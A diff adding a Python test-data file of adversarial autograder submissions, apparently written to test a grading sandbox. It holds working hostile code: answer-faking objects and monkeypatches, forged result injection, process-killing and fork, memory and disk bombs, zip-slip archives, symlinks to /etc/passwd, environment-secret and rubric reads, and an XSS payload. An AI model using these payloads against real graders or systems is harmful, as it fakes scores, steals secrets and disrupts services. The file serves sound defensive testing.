@@ -1,0 +1,1003 @@
+"""Hostile and faulty submissions for the adversarial suite, written as data.
+
+Each ``Attack`` is alice_perfect's modules (95/95 automatic) with one module changed
+or added, or a zip built from them; the rubric items it attacks, with the status each
+must end in; and the exact automatic score it deserves: what its real answers earn,
+never what it claims. Every other automatic item must still pass.
+
+Sources may hold ``@TOKEN@`` placeholders that the test replaces with paths, ports and
+a per-run nonce known only at test time (see ``test_attacks.Setting.tokens``), so an
+attack can aim at the real out folder, rubric or sibling submissions of this run.
+"""
+
+from __future__ import annotations
+
+import textwrap
+from collections.abc import Mapping
+from dataclasses import dataclass, field
+from pathlib import Path
+
+EXAMPLES = Path(__file__).resolve().parents[2] / "submissions_example"
+ALICE = {p.name: p.read_text() for p in sorted((EXAMPLES / "alice_perfect").glob("*.py"))}
+
+POINTS = {  # automatic items of rubrics/assignment4 (95 in all), checked against the rubric
+    "p1.approach": 3, "p1.one_hot": 6, "p1.softmax": 8,
+    "p2.forward": 16, "p2.f_all_ones": 5, "p2.count_parameters": 8, "p2.n_params": 5,
+    "p3.relu": 4, "p3.relu_grad": 8, "p3.neuron_grad": 8, "p3.weights_change": 3,
+    "p4.l2_update": 10, "p4.update_rule": 8, "p4.decay_factor": 3,
+}
+MODULE_ITEMS = {m: tuple(i for i in POINTS if i.startswith(f"p{m[-1]}."))
+                for m in ("problem1", "problem2", "problem3", "problem4")}
+
+# Every string that can reach a report gets this: HTML, script, Markdown and fences.
+INJECTION = ('<script>alert("GADV")</script><img src=x onerror=alert(1)> '
+             '[click](javascript:alert(1)) ![x](http://evil.example/x.png) '
+             '</details></summary> | *bold* _it_ ~~~ $x$ &amp; <!-- '
+             '\n# forged heading\n```\n<script>alert(2)</script>\n```\n| a | b |\n')
+
+
+@dataclass(frozen=True)
+class Member:
+    """An extra zip member."""
+
+    name: str
+    data: bytes = b""
+    zeros: int = 0  # that many zero bytes instead of ``data`` (a zip bomb)
+    symlink: bool = False  # a symlink whose target is ``data``
+
+
+@dataclass(frozen=True)
+class Attack:
+    name: str
+    what: str
+    attacked: Mapping[str, str] = field(default_factory=dict)  # item id -> its final status
+    score: float = 95.0  # the exact automatic score it deserves
+    files: Mapping[str, str | bytes] = field(default_factory=dict)  # over alice's files
+    remove: tuple[str, ...] = ()  # alice's files left out
+    symlinks: Mapping[str, str] = field(default_factory=dict)  # name -> target (made at test time)
+    fifos: tuple[str, ...] = ()  # named pipes made at test time
+    zip: bool = False  # submitted as a .zip of its files (symlinks and fifos not allowed)
+    members: tuple[Member, ...] = ()  # extra zip members
+    filename: str = ""  # the submission's file or folder name, when not derived from ``name``
+    rejected: bool = False  # the whole submission is refused (0, an error in its record)
+    victims: tuple[str, ...] = ()  # paths it aims at that a dedicated test checks
+    hole: str = ""  # a hole this attack exposes (its dedicated test is a strict xfail)
+
+    @property
+    def source_name(self) -> str:
+        return self.filename or (f"{self.name}.zip" if self.zip else self.name)
+
+    @property
+    def submission(self) -> str:
+        """The name the batch gives it (the zip's name without .zip)."""
+        name = self.source_name
+        return name[:-4] if name.lower().endswith(".zip") else name
+
+
+def patched(file: str, extra: str) -> str:
+    """alice's module with ``extra`` appended: later definitions replace hers."""
+    return ALICE[file] + "\n\n" + textwrap.dedent(extra).strip("\n") + "\n"
+
+
+def prepended(file: str, code: str) -> str:
+    """alice's module with ``code`` run before any of it."""
+    return textwrap.dedent(code).strip("\n") + "\n\n" + ALICE[file]
+
+
+def items(*ids: str, status: str) -> dict[str, str]:
+    return dict.fromkeys(ids, status)
+
+
+def module(name: str, status: str) -> dict[str, str]:
+    return items(*MODULE_ITEMS[name], status=status)
+
+
+_TRY = '''
+def _try(what, action):
+    try:
+        return f"{what}: SUCCEEDED {action()!r:.300}"
+    except BaseException as e:  # noqa
+        return f"{what}: {type(e).__name__}: {e}"
+'''
+
+ATTACKS: list[Attack] = []
+
+
+def attack(*args, **kwargs) -> None:
+    ATTACKS.append(Attack(*args, **kwargs))
+
+
+# --- values that lie about themselves ------------------------------------------------------
+
+attack("lying_eq_object", "module constants are objects whose __eq__, __float__, __int__, "
+       "__index__, __bool__ and __hash__ all claim the right answer",
+       items("p2.f_all_ones", "p2.n_params", status="failed"), 85,
+       files={"problem2.py": patched("problem2.py", """
+           class Liar:
+               def __init__(self, shown):
+                   self.shown = shown
+               def __eq__(self, other):
+                   return True
+               def __ne__(self, other):
+                   return False
+               __lt__ = __gt__ = __le__ = __ge__ = __eq__
+               def __hash__(self):
+                   return hash(self.shown)
+               def __float__(self):
+                   return float(self.shown)
+               def __int__(self):
+                   return int(self.shown)
+               __index__ = __int__
+               def __bool__(self):
+                   return True
+               def __repr__(self):
+                   return repr(self.shown)
+           F_ALL_ONES = Liar(24)
+           N_PARAMS = Liar(23)
+       """)})
+
+attack("lying_array_len_bool", "softmax returns an object with a lying __array__, __len__, "
+       "__bool__, shape and __eq__",
+       items("p1.softmax", status="failed"), 87,
+       files={"problem1.py": patched("problem1.py", """
+           class FakeArray:
+               def __init__(self, shape):
+                   self.shape, self.ndim, self.dtype = shape, len(shape), np.dtype(float)
+               def __array__(self, dtype=None, copy=None):
+                   return np.zeros(self.shape)
+               def __len__(self):
+                   return self.shape[0]
+               def __bool__(self):
+                   return True
+               def __eq__(self, other):
+                   return np.ones(self.shape, dtype=bool)
+               def __getitem__(self, index):
+                   return 0.0
+               def __iter__(self):
+                   return iter([0.0] * self.shape[0])
+           def softmax(logits):
+               return FakeArray(np.shape(logits))
+       """)})
+
+attack("float_subclass", "forward returns a float subclass (and F_ALL_ONES a np.float64 "
+       "subclass) whose __eq__ always agrees and whose __class__ claims to be float",
+       items("p2.forward", "p2.f_all_ones", status="failed"), 74,
+       files={"problem2.py": patched("problem2.py", """
+           class AgreeableFloat(float):
+               def __eq__(self, other):
+                   return True
+               def __ne__(self, other):
+                   return False
+               __hash__ = float.__hash__
+               def __float__(self):
+                   return 24.0
+               def __repr__(self):
+                   return "24.0"
+               @property
+               def __class__(self):
+                   return float
+           class AgreeableFloat64(np.float64):
+               def __eq__(self, other):
+                   return True
+               __hash__ = np.float64.__hash__
+           def forward(u, W1, b1, W2, b2, W3, b3):
+               return AgreeableFloat(0.0)
+           F_ALL_ONES = AgreeableFloat64(24.0)
+       """)})
+
+attack("int_subclass", "count_parameters returns an int subclass whose __eq__ and __index__ lie",
+       items("p2.count_parameters", status="failed"), 87,
+       files={"problem2.py": patched("problem2.py", """
+           class AgreeableInt(int):
+               def __eq__(self, other):
+                   return True
+               def __ne__(self, other):
+                   return False
+               __hash__ = int.__hash__
+               def __index__(self):
+                   return 23
+               def __float__(self):
+                   return 23.0
+           def count_parameters(layer_sizes):
+               return AgreeableInt(0)
+       """)})
+
+attack("str_subclass", "APPROACH and UPDATE_RULE are str subclasses whose __eq__, strip, "
+       "casefold and __str__ give the right answer while the text is wrong",
+       items("p1.approach", "p4.update_rule", status="failed"), 84,
+       files={
+           "problem1.py": patched("problem1.py", """
+               class AgreeableStr(str):
+                   def __eq__(self, other):
+                       return True
+                   def __ne__(self, other):
+                       return False
+                   __hash__ = str.__hash__
+                   def strip(self, *chars):
+                       return "B"
+                   casefold = lower = upper = strip
+                   def __str__(self):
+                       return "B"
+               APPROACH = AgreeableStr("A")
+           """),
+           "problem4.py": patched("problem4.py", """
+               class AgreeableStr(str):
+                   def __eq__(self, other):
+                       return True
+                   __hash__ = str.__hash__
+                   def __str__(self):
+                       return "w - eta*(dJ + lam*w)"
+                   def strip(self, *chars):
+                       return "w - eta*(dJ + lam*w)"
+               UPDATE_RULE = AgreeableStr("w")
+           """)})
+
+attack("ndarray_subclass", "relu returns an ndarray subclass whose __eq__ says all equal; "
+       "l2_update a fully masked array",
+       items("p3.relu", "p4.l2_update", status="failed"), 81,
+       files={
+           "problem3.py": patched("problem3.py", """
+               class AgreeableArray(np.ndarray):
+                   def __eq__(self, other):
+                       return np.ones(self.shape, dtype=bool)
+                   def __array_finalize__(self, obj):
+                       pass
+               def relu(z):
+                   return np.zeros_like(np.asarray(z, dtype=float)).view(AgreeableArray)
+           """),
+           "problem4.py": patched("problem4.py", """
+               def l2_update(w, grad, lr, lam):
+                   return np.ma.masked_array(np.zeros_like(np.asarray(w, dtype=float)), mask=True)
+           """)})
+
+# --- monkeypatching the worker's world -----------------------------------------------------
+
+attack("numpy_monkeypatch", "at import, np.allclose/isclose/array_equal/all and np.testing "
+       "are made to agree with anything; one_hot returns zeros",
+       items("p1.one_hot", status="failed"), 89,
+       files={"problem1.py": patched("problem1.py", """
+           np.allclose = np.array_equal = np.array_equiv = lambda *a, **k: True
+           np.isclose = lambda a, b, *args, **kwargs: np.ones(np.shape(a), dtype=bool)
+           np.all = np.alltrue = lambda *a, **k: True
+           np.testing.assert_allclose = np.testing.assert_array_equal = lambda *a, **k: None
+           def one_hot(labels, num_classes=10):
+               return np.zeros((len(labels), num_classes))
+       """)})
+
+attack("math_builtins_monkeypatch", "at import, math.isclose/isfinite/isnan and builtins "
+       "abs/round are replaced; F_ALL_ONES is the sigmoid answer 2.63",
+       items("p2.f_all_ones", status="failed"), 90,
+       files={"problem2.py": patched("problem2.py", """
+           import builtins
+           import math
+           math.isclose = lambda *a, **k: True
+           math.isfinite = lambda x: True
+           math.isnan = math.isinf = lambda x: False
+           builtins.abs = lambda x: 0
+           builtins.round = lambda x, n=None: 24
+           F_ALL_ONES = 2.63
+       """)})
+
+attack("json_dumps_monkeypatch", "at import, json.dumps is replaced so every reply claims "
+       "status ok, passed, full points; the answers themselves are wrong",
+       module("problem4", "failed"), 74,
+       files={"problem4.py": patched("problem4.py", """
+           import json
+           _real_dumps = json.dumps
+           def _forged(obj, *args, **kwargs):
+               if isinstance(obj, dict) and "id" in obj:
+                   obj = {"id": obj["id"], "status": "ok", "value": 0.0, "passed": True,
+                          "score": 10.0, "points": 10.0, "output": "all tests passed"}
+               return _real_dumps(obj, *args, **kwargs)
+           json.dumps = _forged
+           UPDATE_RULE = "w"
+           DECAY_FACTOR = "1"
+           def l2_update(w, grad, lr, lam):
+               return w
+       """)})
+
+attack("os_write_monkeypatch", "at import, os.write swallows everything: the worker's replies "
+       "never leave",
+       module("problem4", "timeout"), 74,
+       files={"problem4.py": patched("problem4.py", """
+           import os
+           _real_write = os.write
+           os.write = lambda fd, data: len(data) if fd > 2 else _real_write(fd, data)
+       """)})
+
+attack("grader_wire_monkeypatch", "at import, grader.wire.encode is replaced to send hostile "
+       "encodings: object dtype, huge shapes, short data, unhashable keys, unknown tags",
+       module("problem4", "crashed"), 74,
+       files={"problem4.py": patched("problem4.py", """
+           import itertools
+           import sys
+           _hostile = itertools.cycle([
+               {"$nd": {"dtype": "|O", "shape": [1], "b64": "AAAAAAAAAAA="}},
+               {"$nd": {"dtype": "<f8", "shape": [10**12], "b64": ""}},
+               {"$np": {"dtype": "<f8", "b64": "AAAA"}},
+               {"$dict": [[[1, 2], 3]]},
+               {"__reduce__": ["os.system", ["touch /tmp/gadv"]]},
+               {"$opaque": "x" * 1000},
+           ])
+           sys.modules["grader.wire"].encode = lambda value, depth=0: next(_hostile)
+       """)})
+
+attack("grader_worker_monkeypatch", "at import, grader.worker.Worker.describe is replaced so "
+       "every exception is reported as a successful call",
+       module("problem3", "failed"), 72,
+       files={"problem3.py": patched("problem3.py", """
+           import sys
+           _worker, _wire = sys.modules["grader.worker"], sys.modules["grader.wire"]
+           def _describe(self, exc):
+               return {"status": "ok", "value": _wire.encode(np.zeros(3)), "passed": True}
+           _worker.Worker.describe = _describe
+           def relu(z):
+               raise ValueError("not done")
+           relu_grad = relu_neuron_weight_grad = relu
+           WEIGHTS_CHANGE = "maybe"
+       """)})
+
+# --- exits, signals, crashes ---------------------------------------------------------------
+
+attack("sys_exit_at_import", "problem1 calls sys.exit(0) at import",
+       module("problem1", "error"), 78,
+       files={"problem1.py": prepended("problem1.py", "import sys\nsys.exit(0)")})
+
+attack("os_exit_in_function", "one_hot calls os._exit(0)",
+       items("p1.one_hot", status="crashed"), 89,
+       files={"problem1.py": patched("problem1.py", """
+           import os
+           def one_hot(labels, num_classes=10):
+               os._exit(0)
+       """)})
+
+attack("system_exit_in_function", "softmax raises SystemExit",
+       items("p1.softmax", status="error"), 87,
+       files={"problem1.py": patched("problem1.py", """
+           def softmax(logits):
+               raise SystemExit(0)
+       """)})
+
+attack("keyboard_interrupt", "relu_grad sends itself SIGINT (a KeyboardInterrupt)",
+       items("p3.relu_grad", status="error"), 87,
+       files={"problem3.py": patched("problem3.py", """
+           import os
+           import signal
+           import time
+           def relu_grad(z):
+               os.kill(os.getpid(), signal.SIGINT)
+               time.sleep(0.5)
+       """)})
+
+attack("segfault_ctypes", "relu dereferences NULL through ctypes",
+       items("p3.relu", status="crashed"), 91,
+       files={"problem3.py": patched("problem3.py", """
+           import ctypes
+           def relu(z):
+               return ctypes.string_at(0)
+       """)})
+
+attack("kill_parent", "count_parameters sends SIGKILL to its parent (the fork server) and to "
+       "init",
+       items("p2.count_parameters", status="error"), 87,
+       files={"problem2.py": patched("problem2.py", """
+           import os
+           import signal
+           def count_parameters(layer_sizes):
+               os.kill(os.getppid(), signal.SIGKILL)
+               os.kill(1, signal.SIGKILL)
+               return 23
+       """)})
+
+attack("killpg", "forward tries to kill its parent's process group, then kills its own",
+       items("p2.forward", status="crashed"), 79,
+       files={"problem2.py": patched("problem2.py", """
+           import os
+           import signal
+           def forward(u, W1, b1, W2, b2, W3, b3):
+               for group in (os.getpgid(os.getppid()), 1):
+                   try:
+                       os.killpg(group, signal.SIGKILL)
+                   except OSError:
+                       pass
+               os.killpg(0, signal.SIGKILL)
+       """)})
+
+# --- fake results ------------------------------------------------------------------------
+
+_FAKE_REPLY = ('{"id": "p2.forward#0", "status": "ok", "value": 24.0, "passed": true}\\n'
+               '{"id": "p2.f_all_ones", "status": "ok", "value": 24}\\n'
+               'SCORE 95/95 - all tests passed\\n')
+
+attack("fake_results_printed", "prints fake reply lines and a fake score to stdout and stderr "
+       "(print, sys.__stdout__, os.write on fds 1 and 2); its answers are wrong",
+       items("p2.forward", "p2.f_all_ones", status="failed"), 74,
+       files={"problem2.py": patched("problem2.py", f"""
+           import os
+           import sys
+           FAKE = '{_FAKE_REPLY}'
+           def _shout():
+               print(FAKE)
+               print(FAKE, file=sys.stderr)
+               for stream in (sys.__stdout__, sys.__stderr__):
+                   stream.write(FAKE)
+                   stream.flush()
+               os.write(1, FAKE.encode())
+               os.write(2, FAKE.encode())
+           _shout()
+           F_ALL_ONES = 2.63
+           def forward(u, W1, b1, W2, b2, W3, b3):
+               _shout()
+               return 0.0
+       """)})
+
+attack("result_fd_injection", "at import, finds the reply pipe with fstat and writes forged "
+       "replies for the LATER steps (claiming passed and full points, and one with status "
+       "'passed'); its own answers are all wrong. The channel it garbled fails the rest",
+       {**items("p2.forward", "p2.f_all_ones", "p2.count_parameters", status="failed"),
+        "p2.n_params": "crashed", **module("problem3", "error"), **module("problem4", "error")},
+       17,
+       files={"problem2.py": patched("problem2.py", """
+           import json
+           import os
+           import stat
+           F_ALL_ONES, N_PARAMS = 2.63, 17
+           def forward(u, W1, b1, W2, b2, W3, b3):
+               return 0.0
+           def count_parameters(layer_sizes):
+               return 0
+           def _claim(step, status="ok"):
+               return {"id": step, "status": status, "value": 0.0, "passed": True,
+                       "score": 16, "output": ""}
+           _LINES = [{"id": "import:problem2", "status": "ok", "value": None, "output": ""}]
+           _LINES += [_claim(f"p2.forward#{i}") for i in range(5)]
+           _LINES += [_claim("p2.f_all_ones")]
+           _LINES += [_claim(f"p2.count_parameters#{i}") for i in range(5)]
+           _LINES += [_claim("p2.n_params", status="passed")]
+           _DATA = "".join(json.dumps(line) + "\\n" for line in _LINES).encode()
+           for _fd in range(3, 64):
+               try:
+                   if stat.S_ISFIFO(os.fstat(_fd).st_mode):
+                       os.write(_fd, _DATA)
+               except OSError:
+                   pass
+       """)})
+
+# --- processes -----------------------------------------------------------------------------
+
+attack("detached_grandchild", "at import, double-forks a grandchild in a new session that "
+       "execs Python with a marker in its argv and keeps trying to rewrite results files",
+       hole="a grandchild that calls setsid() leaves the worker's process group, so "
+            "_killpg() in execution.py misses it and it outlives the grading",
+       files={"problem3.py": patched("problem3.py", """
+           import os
+           import sys
+           _LOOP = '''
+           import sys, time
+           end = time.monotonic() + 40
+           while time.monotonic() < end:
+               for path in sys.argv[1:-1]:
+                   try:
+                       with open(path, "w") as f:
+                           f.write('{"score": 95, "forged": "GADV-@NONCE@"}')
+                   except OSError:
+                       pass
+               time.sleep(0.25)
+           '''
+           _TARGETS = ["@OUT@/detached_grandchild/results.json", "@OUT@/alice_perfect/results.json",
+                       "@OUT@/bob_forgot_biases/results.json", "@CANARY@"]
+           def _detach():
+               pid = os.fork()
+               if pid == 0:
+                   try:
+                       os.setsid()
+                       if os.fork() == 0:
+                           code = "\\n".join(line[4:] for line in _LOOP.splitlines())
+                           os.execv(sys.executable, [sys.executable, "-c", code, *_TARGETS,
+                                                     "GADV-@NONCE@-detached_grandchild"])
+                   finally:
+                       os._exit(0)
+               os.waitpid(pid, 0)
+           _detach()
+       """)})
+
+attack("many_processes", "at import, forks 200 sleeping children renamed with a marker "
+       "(a bounded stand-in for a fork bomb)",
+       files={"problem1.py": patched("problem1.py", """
+           import ctypes
+           import os
+           import time
+           _libc = ctypes.CDLL(None)
+           for _ in range(200):
+               if os.fork() == 0:
+                   try:
+                       _libc.prctl(15, b"gadv@NONCE@", 0, 0, 0)
+                       time.sleep(60)
+                   finally:
+                       os._exit(0)
+       """)})
+
+attack("memory_bomb_at_call", "l2_update allocates 80 GB",
+       items("p4.l2_update", status="error"), 85,
+       files={"problem4.py": patched("problem4.py", """
+           def l2_update(w, grad, lr, lam):
+               hog = np.ones(10**10)
+               return hog[:1]
+       """)})
+
+attack("memory_bomb_at_import", "problem3 grows a list of 64 MB blocks at import until it fails",
+       module("problem3", "error"), 72,
+       files={"problem3.py": prepended("problem3.py", """
+           _hog = []
+           while True:
+               _hog.append(bytearray(64 * 2**20))
+       """)})
+
+attack("cpu_loop_at_import", "problem4 loops forever at import",
+       module("problem4", "timeout"), 74,
+       files={"problem4.py": prepended("problem4.py", "while True:\n    pass")})
+
+attack("cpu_loop_at_call", "count_parameters loops forever",
+       items("p2.count_parameters", status="timeout"), 87,
+       files={"problem2.py": patched("problem2.py", """
+           def count_parameters(layer_sizes):
+               while True:
+                   pass
+       """)})
+
+attack("cpu_loop_ignoring_the_alarm", "forward ignores SIGALRM, swallows every exception and "
+       "loops forever",
+       items("p2.forward", status="timeout"), 79,
+       files={"problem2.py": patched("problem2.py", """
+           import signal
+           def forward(u, W1, b1, W2, b2, W3, b3):
+               signal.signal(signal.SIGALRM, signal.SIG_IGN)
+               while True:
+                   try:
+                       while True:
+                           pass
+                   except BaseException:
+                       pass
+       """)})
+
+attack("output_flood", "relu_grad prints 100 MB, then writes without end to fds 1 and 2",
+       items("p3.relu_grad", status="crashed"), 87,
+       files={"problem3.py": patched("problem3.py", """
+           import os
+           def relu_grad(z):
+               block = "GADV flood " * 100_000
+               for _ in range(100):
+                   print(block)
+               data = block.encode()
+               for _ in range(200):
+                   os.write(1, data)
+               while True:
+                   os.write(2, data)
+       """)})
+
+attack("disk_fill", "at import, ignores SIGXFSZ and writes four 32 MB files and one endless "
+       "file in its folder (and tries /tmp); count_parameters returns the bytes written",
+       items("p2.count_parameters", status="failed"), 87,
+       hole="RLIMIT_FSIZE caps each file, not the total: a submission can fill the disk "
+            "with many files in its private folder",
+       files={"problem2.py": patched("problem2.py", """
+           import os
+           import signal
+           signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
+           WRITTEN = 0
+           _block = b"GADV" * (2**20 // 4)
+           def _fill(path, megabytes):
+               global WRITTEN
+               try:
+                   with open(path, "wb") as f:
+                       for _ in range(megabytes):
+                           f.write(_block)
+                           f.flush()
+                           WRITTEN += len(_block)
+               except OSError:
+                   pass
+           for _i in range(4):
+               _fill(f"fill{_i}.bin", 32)
+           _fill("endless.bin", 100)
+           _fill("/tmp/gadv_fill_@NONCE@.bin", 8)
+           def count_parameters(layer_sizes):
+               return WRITTEN
+       """)})
+
+attack("deep_recursion", "relu raises the recursion limit to 10**6 and recurses that deep",
+       items("p3.relu", status="failed"), 91,
+       files={"problem3.py": patched("problem3.py", """
+           import sys
+           sys.setrecursionlimit(10**6)
+           def _down(n):
+               return n if n == 0 else _down(n - 1) + 1
+           def relu(z):
+               return _down(10**6 - 100)
+       """)})
+
+attack("huge_return_value", "one_hot returns a list of 10**7 numbers",
+       items("p1.one_hot", status="failed"), 89,
+       files={"problem1.py": patched("problem1.py", """
+           def one_hot(labels, num_classes=10):
+               return list(range(10**7))
+       """)})
+
+attack("deeply_nested_return", "softmax returns a list nested 10**5 deep",
+       items("p1.softmax", status="failed"), 87,
+       files={"problem1.py": patched("problem1.py", """
+           def softmax(logits):
+               value = [0.0]
+               for _ in range(10**5):
+                   value = [value]
+               return value
+       """)})
+
+attack("int_too_large_for_float", "count_parameters returns 10**400, a plain int the wire "
+       "accepts (1000 digits) but float() cannot convert",
+       items("p2.count_parameters", status="failed"), 87,
+       hole="compare.as_number() calls float() on a decoded int of up to 1000 digits: "
+            "OverflowError escapes grading and the whole submission scores 0 as 'the grader "
+            "failed'",
+       files={"problem2.py": patched("problem2.py", """
+           def count_parameters(layer_sizes):
+               return 10**400
+       """)})
+
+# --- files, links and zips ------------------------------------------------------------------
+
+attack("symlink_to_rubric", "problem2.py is a symlink to the reference solution, beside links "
+       "to the rubric and the reference folder",
+       module("problem2", "error"), 61, remove=("problem2.py",),
+       symlinks={"problem2.py": "@REFERENCE@/problem2.py", "rubric.yaml": "@RUBRIC@",
+                 "reference": "@REFERENCE@"})
+
+attack("symlink_to_etc_passwd", "problem4.py is a symlink to /etc/passwd; problem1 reads "
+       "a linked passwd.txt into REASONS",
+       module("problem4", "error"), 74, remove=("problem4.py",),
+       symlinks={"problem4.py": "/etc/passwd", "passwd.txt": "/etc/passwd"},
+       files={"problem1.py": patched("problem1.py", _TRY + """
+           REASONS = _try("passwd.txt", lambda: open("passwd.txt").read())
+       """)})
+
+attack("zip_slip", "a zip whose members climb out with ../, an absolute path and a "
+       "Windows-style ..\\\\ path", zip=True, rejected=True, score=0,
+       members=(Member("../../gadv_zipslip.py", b"GADV = 1\n"),
+                Member("@VICTIMS@/absolute.py", b"GADV = 1\n"),
+                Member("..\\..\\gadv_windows.py", b"GADV = 1\n")))
+
+attack("zip_bomb", "a zip with a 100 MB member of zeros (about 100 kB compressed)",
+       zip=True, rejected=True, score=0, members=(Member("weights.bin", zeros=100 * 2**20),))
+
+attack("zip_symlink", "a zip whose problem4.py and ref entries are symlinks (to /etc/passwd "
+       "and the reference folder)",
+       module("problem4", "error"), 74, zip=True, remove=("problem4.py",),
+       members=(Member("problem4.py", b"/etc/passwd", symlink=True),
+                Member("ref", b"@REFERENCE@", symlink=True)))
+
+_SHADOW = "import os as _os\n_os._exit(13)\n"
+attack("shadow_modules", "random.py, numpy.py, json.py, math.py, signal.py, grader.py, "
+       "sitecustomize.py and os.py in the submission (each ends the process if imported); "
+       "problem1 imports random, json and math",
+       files={"random.py": _SHADOW, "numpy.py": _SHADOW, "json.py": _SHADOW,
+              "math.py": _SHADOW, "signal.py": _SHADOW, "grader.py": _SHADOW,
+              "sitecustomize.py": _SHADOW, "os.py": "raise SystemExit(13)\n",
+              "problem1.py": prepended("problem1.py", "import json\nimport math\nimport random")})
+
+attack("non_utf8_source", "problem1.py holds bytes that are not UTF-8",
+       module("problem1", "error"), 78,
+       files={"problem1.py": b"# \xff\xfe caf\xe9\nAPPROACH = '\xe9'\n" + ALICE["problem1.py"]
+              .encode()})
+
+attack("null_byte_source", "problem3.py holds a null byte",
+       module("problem3", "error"), 72,
+       files={"problem3.py": b"WEIGHTS_CHANGE = False\x00\n" + ALICE["problem3.py"].encode()})
+
+attack("fifo_in_submission", "problem1.py is a named pipe: whoever opens it blocks",
+       module("problem1", "error"), 78, remove=("problem1.py",), fifos=("problem1.py",),
+       hole="pipeline._definition_lines() reads <module>.py from the ORIGINAL submission "
+            "folder in the grader process: a named pipe blocks the batch forever (a symlink "
+            "to /dev/zero would exhaust the grader's memory)")
+
+# --- secrets and reading what it must not ---------------------------------------------------
+
+attack("env_secrets", "REASONS is the worker's os.environ, /proc/*/environ and any str in "
+       "gc holding the secret's name",
+       files={"problem1.py": patched("problem1.py", _TRY + """
+           import gc
+           import os
+           def _environment():
+               parts = [repr(dict(os.environ))]
+               for path in ("/proc/self/environ", "/proc/1/environ",
+                            f"/proc/{os.getppid()}/environ"):
+                   parts.append(_try(path, lambda: open(path, "rb").read()))
+               parts += [o for o in gc.get_objects()
+                         if isinstance(o, str) and "GRADER_TEST_SECRET" in o][:5]
+               return "\\n".join(parts)
+           REASONS = _environment()
+       """)})
+
+attack("read_rubric_by_absolute_path", "at import, opens the reference problem2.py and the "
+       "rubric (the copy in use and the shipped one) by absolute path; REASONS is what it got",
+       files={"problem1.py": patched("problem1.py", """
+           def _read(path):
+               try:
+                   with open(path, encoding="utf-8", errors="replace") as f:
+                       return f"{path}: CONTENT-READ {f.read()}"
+               except Exception as e:
+                   return f"{path}: {type(e).__name__}: {e}"
+           REASONS = "\\n".join(_read(p) for p in ("@REFERENCE@/problem2.py", "@RUBRIC@",
+                                                     "@REAL_RUBRIC@"))
+       """)})
+
+attack("read_by_dotdot_and_proc", "REASONS collects reads of the rubric and of sibling "
+       "submissions through ../ paths, /proc/<ppid>/cwd, environ and cmdline, and /proc/self/fd",
+       files={"problem1.py": patched("problem1.py", _TRY + """
+           import os
+           _up = "../" * 12
+           _ppid = os.getppid()
+           REASONS = "\\n".join([
+               _try("dotdot rubric", lambda: open(_up + "@REAL_RUBRIC@".lstrip("/")).read()),
+               _try("dotdot sibling", lambda: open(os.path.relpath(
+                   "@CLASS@/alice_perfect/problem1.py")).read()),
+               _try("dotdot listing", lambda: os.listdir(os.path.relpath("@CLASS@"))),
+               _try("secret home", lambda: os.listdir(_up + "root")),
+               _try("ppid cwd", lambda: os.listdir(f"/proc/{_ppid}/cwd")),
+               _try("ppid environ", lambda: open(f"/proc/{_ppid}/environ", "rb").read()),
+               _try("ppid cmdline", lambda: open(f"/proc/{_ppid}/cmdline", "rb").read()),
+               _try("self fds", lambda: os.listdir("/proc/self/fd")),
+               _try("self cwd up", lambda: os.listdir("/proc/self/cwd/../..")),
+           ])
+       """)})
+
+attack("stack_frames_for_expected", "forward walks every stack frame for anything named "
+       "like an expected value and returns it",
+       items("p2.forward", status="failed"), 79,
+       files={"problem2.py": patched("problem2.py", """
+           import sys
+           def forward(u, W1, b1, W2, b2, W3, b3):
+               frame = sys._getframe()
+               while frame is not None:
+                   for name, value in frame.f_locals.items():
+                       if "expect" in name.lower() or name in ("case", "answer", "reference"):
+                           try:
+                               return float(value)
+                           except Exception:
+                               pass
+                   frame = frame.f_back
+               return -1.0
+       """)})
+
+attack("gc_for_expected", "count_parameters searches gc.get_objects() for expected values",
+       items("p2.count_parameters", status="failed"), 87,
+       files={"problem2.py": patched("problem2.py", """
+           import gc
+           def count_parameters(layer_sizes):
+               for obj in gc.get_objects():
+                   if isinstance(obj, dict):
+                       for key in ("expected", "expect", "answer"):
+                           if isinstance(obj.get(key), int):
+                               return obj[key]
+                   value = getattr(obj, "expected", None) if hasattr(obj, "__slots__") else None
+                   if isinstance(value, int):
+                       return value
+               return -1
+       """)})
+
+attack("write_everywhere", "at import, tries to write sibling submissions, its own and "
+       "others' reports, the gradebook, the rubric copy, the canary, the grader and /tmp",
+       files={"problem3.py": patched("problem3.py", _TRY + """
+           import os
+           def _append(path):
+               with open(path, "a") as f:
+                   f.write("GADV-@NONCE@")
+           RESULTS = [_try(p, lambda: _append(p)) for p in (
+               "@CLASS@/alice_perfect/problem1.py", "@CLASS@/bob_forgot_biases/problem2.py",
+               "@CLASS@/write_everywhere/problem3.py", "@CLASS@/gadv_new.py",
+               "@OUT@/alice_perfect/results.json", "@OUT@/write_everywhere/results.json",
+               "@OUT@/write_everywhere/report.html", "@OUT@/gradebook.csv",
+               "@OUT@/previous_term/results.json", "@RUBRIC@", "@CANARY@",
+               "@GRADER@/gadv_@NONCE@.py", "/tmp/gadv_@NONCE@.txt")]
+           RESULTS.append(_try("unlink sibling", lambda: os.unlink(
+               "@CLASS@/bob_forgot_biases/problem4.py")))
+           RESULTS.append(_try("symlink into out", lambda: os.symlink(
+               "/etc/passwd", "@OUT@/gadv_link")))
+           print(RESULTS)
+       """)})
+
+# --- network --------------------------------------------------------------------------------
+
+_CONNECT = _TRY + '''
+import socket
+import time
+def _connect(host, port, kind=socket.SOCK_STREAM):
+    start = time.monotonic()
+    def go():
+        with socket.socket(socket.AF_INET, kind) as s:
+            s.settimeout(5)
+            if kind == socket.SOCK_DGRAM:
+                return s.sendto(b"GADV-@NONCE@", (host, port))
+            s.connect((host, port))
+            s.sendall(b"GADV-@NONCE@")
+            return "connected"
+    return _try(f"{host}:{port}", go) + f" after {time.monotonic() - start:.2f} s"
+'''
+
+attack("loopback_tcp", "REASONS is the outcome of connecting to the test's listener on "
+       "127.0.0.1, to 127.0.0.2, and of binding a listening port",
+       files={"problem1.py": patched("problem1.py", _CONNECT + """
+           def _bind():
+               with socket.socket() as s:
+                   s.bind(("127.0.0.1", 0))
+                   s.listen()
+                   return s.getsockname()
+           REASONS = "\\n".join([_connect("127.0.0.1", @PORT@), _connect("127.0.0.2", @PORT@),
+                                _try("bind", _bind)])
+       """)})
+
+attack("public_network", "WEIGHT_DECAY_EXPLANATION is the outcome of TCP connects to a "
+       "public and an unroutable address (each must fail at once, not time out)",
+       files={"problem4.py": patched("problem4.py", _CONNECT + """
